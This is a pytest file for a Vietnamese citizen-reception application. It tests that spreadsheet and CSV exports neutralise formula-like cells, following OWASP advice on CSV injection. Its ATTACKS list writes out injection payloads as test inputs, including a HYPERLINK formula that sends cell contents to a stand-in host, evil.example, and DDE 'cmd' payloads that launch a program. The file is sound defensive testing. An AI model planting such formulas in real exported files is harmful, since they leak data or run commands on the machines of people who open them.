"""Cells that spreadsheets would run as formulas are written as text (OWASP's advice on
CSV injection), in workbooks and CSV tables alike; numbers stay numbers."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook
from tiep_cong_dan.core.spreadsheets import append_row, csv_bytes, inert

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_starting_like_a_formula_gets_a_quote(text):
    assert inert(text) == "'" + text


def test_other_values_are_left_alone():
    day = datetime.date(2026, 3, 2)
    values = [-5, 3.5, 0, day, True, None, "Hoàng Văn An", "2026/TCD-000001", "", "a=b"]
    assert [inert(v) for v in values] == values


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def test_a_workbook_row_holds_no_formula_and_keeps_its_numbers():
    # given a sheet written through the shared row writer
    wb = Workbook()
    append_row(wb.active, [*ATTACKS, -7, 12.5])
    buffer = io.BytesIO()
    wb.save(buffer)
    # then the file has no formula element and every attack reads back as quoted text
    assert "<f>" not in _sheet_xml(buffer.getvalue())
    row = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [c.value for c in row] == ["'" + a for a in ATTACKS] + [-7, 12.5]
    assert [c.data_type for c in row] == ["s"] * len(ATTACKS) + ["n", "n"]


def test_a_csv_table_quotes_header_and_cells():
    data = csv_bytes(["=A1", "số"], [["=cmd|' /C calc'!A0", -3], ["@x", 4]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["'=A1", "số"], ["'=cmd|' /C calc'!A0", "-3"], ["'@x", "4"]]
